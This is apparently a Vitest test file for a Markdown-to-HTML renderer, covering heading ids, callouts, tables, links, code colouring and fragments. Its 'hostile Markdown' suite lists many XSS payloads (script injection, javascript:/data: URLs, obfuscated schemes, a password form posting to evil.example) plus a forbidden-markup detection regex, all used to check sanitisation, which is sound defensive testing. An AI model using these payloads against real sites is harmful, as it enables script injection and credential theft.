import { describe, expect, it } from 'vitest';
import { withColours } from './coloured-code.ts';
import { PageRenderer, readBlocks, renderFragment, renderInline } from './markdown.ts';

const renderMarkdown = (markdown: string) => new PageRenderer().render(readBlocks(markdown)).html;

describe('a page of Markdown', () => {
  it('gives each heading an id of its own', () => {
    expect(renderMarkdown('## One\n## One\n## `Two` & *three*\n')).toBe(
      '<h2 id="h-one">One</h2>\n<h2 id="h-one-1">One</h2>\n<h2 id="h-two--three"><code>Two</code> &amp; <em>three</em></h2>\n',
    );
  });

  it('begins the ids anew with each page', () => {
    expect(renderMarkdown('## One')).toBe(renderMarkdown('## One'));
  });

  it('drops an id that raw HTML repeats', () => {
    expect(renderMarkdown('## One\n\n<h2 id="h-one">Again</h2>\n').match(/id="h-one"/g)).toHaveLength(1);
  });

  it.each(['note', 'tip', 'important', 'warning', 'caution'])('renders the callout %s', (kind) => {
    const html = renderMarkdown(`> [!${kind.toUpperCase()}]\n> Mind *this*.\n`);
    expect(html).toContain(`<div class="markdown-alert markdown-alert-${kind}">`);
    expect(html).toMatch(new RegExp(`<p class="markdown-alert-title">${kind}</p>`, 'i'));
    expect(html).toContain('<p>Mind <em>this</em>.</p>');
    expect(html).not.toContain('[!');
  });

  it('wraps a table to scroll, marks its headers and aligns without styles', () => {
    expect(renderMarkdown('| a | b |\n| - | -: |\n| 1 | *2* |\n')).toBe(
      `<div class="table-scroll" role="group" aria-label="Table" tabindex="0"><table>
<thead><tr><th scope="col">a</th><th scope="col" class="align-right">b</th></tr></thead>
<tbody><tr><td>1</td><td class="align-right"><em>2</em></td></tr>
</tbody>
</table></div>\n`,
    );
  });

  it.each([
    [
      'a foreign link',
      '[x](https://example.org/a)',
      '<a href="https://example.org/a" rel="noopener noreferrer">x</a>',
    ],
    ['a link within the site', '[x](/overview#h-one)', '<a href="/overview#h-one">x</a>'],
    ['an address', '<a@example.org>', '<a href="mailto:a@example.org">a@example.org</a>'],
    [
      'a picture beside the writeup',
      '![ladder](ladder.svg)',
      '<img alt="ladder" src="ladder.svg" loading="lazy" />',
    ],
    ['a task', '- [x] done', '<li><span class="task">☑</span> done</li>'],
    [
      'keys and abbreviations',
      '<kbd>Tab</kbd> <abbr title="Request for Comments">RFC</abbr>',
      '<kbd>Tab</kbd> <abbr title="Request for Comments">RFC</abbr>',
    ],
    [
      'details',
      '<details><summary>More</summary>\n\n*Text*\n\n</details>',
      '<details><summary>More</summary><p><em>Text</em></p>\n</details>',
    ],
  ])('keeps %s', (_, markdown, html) => {
    expect(renderMarkdown(markdown)).toContain(html);
  });
});

describe('code', () => {
  it('is coloured by classes, without a style attribute', async () => {
    const html = await withColours(() =>
      renderMarkdown('```http\nGET /chat HTTP/1.1\nHost: example.org\n```\n'),
    );
    expect(html).toMatch(/^<pre class="code" data-language="http" tabindex="0"><code class="language-http">/);
    expect(html).toContain('<span class="hl-name">Host</span>');
    expect(html).not.toContain('style');
  });

  it.each(['', 'hex', 'text', 'klingon', 'constructor'])(
    'stays as written in the language "%s"',
    (language) => {
      expect(renderMarkdown(`\`\`\`${language}\n81 05 <48> & 65\n\`\`\`\n`)).toContain(
        '>81 05 &lt;48&gt; &amp; 65</code>',
      );
    },
  );

  it.each(['</code></pre><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '&lt;b&gt;'])(
    'shows %s as text',
    (code) => {
      for (const language of ['text', 'html', 'js', 'http']) {
        const html = renderMarkdown(`\`\`\`${language}\n${code}\n\`\`\`\n`);
        expect(html.replace(/<\/?(?:pre|code|span)[^>]*>/g, '')).not.toMatch(/<|&lt;b>/);
      }
    },
  );

  it('does not let the name of a language out of its attribute', () => {
    expect(renderMarkdown('```"onclick="x()\nhi\n```\n')).not.toContain('onclick');
  });
});

describe('a fragment', () => {
  it('is a phrase when it is one paragraph', () => {
    expect(renderInline('Look at `Upgrade`, *then* look again.\n')).toBe(
      'Look at <code>Upgrade</code>, <em>then</em> look again.',
    );
  });

  it('keeps its blocks when there are several', () => {
    expect(renderInline('One.\n\nTwo.')).toBe('<p>One.</p>\n<p>Two.</p>');
  });

  it('carries no ids, which would repeat those of the page', () => {
    expect(renderFragment('## One')).toBe('<h2>One</h2>\n');
    expect(renderInline('<h2 id="h-one">One</h2>')).toBe('<h2>One</h2>');
  });

  it('resolves its own link definitions', () => {
    expect(renderInline('See [it].\n\n[it]: /overview')).toBe('See <a href="/overview">it</a>.');
  });
});

describe('hostile Markdown', () => {
  /** Whatever was put in, nothing of this may come out. */
  const forbidden =
    /<(?!\/?(?:p|a|img|pre|code|span|div|em|strong|h[1-6]|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|details|summary|kbd|abbr|br|hr|b|i)\b)|\son\w+\s*=|(?:href|src)="\s*(?:javascript|data|vbscript|file|blob)|\sstyle=|srcdoc|xlink/i;

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></ScRiPt>',
    '<img src=x onerror=alert(1)>',
    '<img src="a.png" onerror="alert(1)" srcset="https://evil.example/a.png 1x">',
    '<svg><script>alert(1)</script><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\tscript:alert(1))',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<javascript:alert(1)>',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x](javascript:alert(1))',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '<p style="position:fixed;inset:0">x</p>',
    '<style>body{display:none}</style>',
    '<link rel=stylesheet href=https://evil.example/a.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=x></object><embed src=x>',
    '<form action=https://evil.example><input name=password><button>Go</button></form>',
    '<textarea><script>alert(1)</script></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<lab-step step="first"></lab-step>',
    '<template><script>alert(1)</script></template>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    '<a href="/x" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
    '| <script>x</script> |\n|-|\n| <img src=x onerror=y> |',
    '> [!NOTE]\n> <script>alert(1)</script>',
    '## <img src=x onerror=alert(1)>',
    '[x]: javascript:alert(1)\n[x]',
  ])('comes out harmless: %j', (markdown) => {
    for (const html of [renderMarkdown(markdown), renderFragment(markdown), renderInline(markdown)]) {
      // What is text by now is no markup.
      expect(html.replace(/<code[^>]*>[^<]*<\/code>/g, '')).not.toMatch(forbidden);
      for (const protocol of linkProtocols(html)) expect(['http:', 'https:', 'mailto:']).toContain(protocol);
    }
  });

  it.each([
    '![x](https://evil.example/a.png)',
    '![x](//evil.example/a.png)',
    '<img src="http://evil.example/a.png">',
  ])('fetches no foreign picture: %s', (markdown) => {
    expect(renderMarkdown(markdown)).not.toContain('<img');
  });

  it('keeps only the classes that content is drawn with', () => {
    expect(
      renderMarkdown('<div class="markdown-alert lab"><span class="hl-name secret">x</span></div>'),
    ).toBe('<div class="markdown-alert"><span class="hl-name">x</span></div>');
  });

  it('closes what is left open and opens nothing for what is closed', () => {
    expect(renderMarkdown('</div></section>\n\n<div>\n<b>x\n')).toBe('<div>\n<b>x\n</b></div>');
  });
});

/** Where a browser would go: it decodes entities, and drops control characters before it looks at the scheme. */
function linkProtocols(html: string): string[] {
  return [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, value = '']) => {
    const decoded = value.replace(/&#(x?)(\w+);?/gi, (_, hex, digits) =>
      String.fromCodePoint(Number.parseInt(digits, hex === '' ? 10 : 16)),
    );
    return new URL(decoded.replaceAll('&amp;', '&'), 'http://site.example').protocol;
  });
}
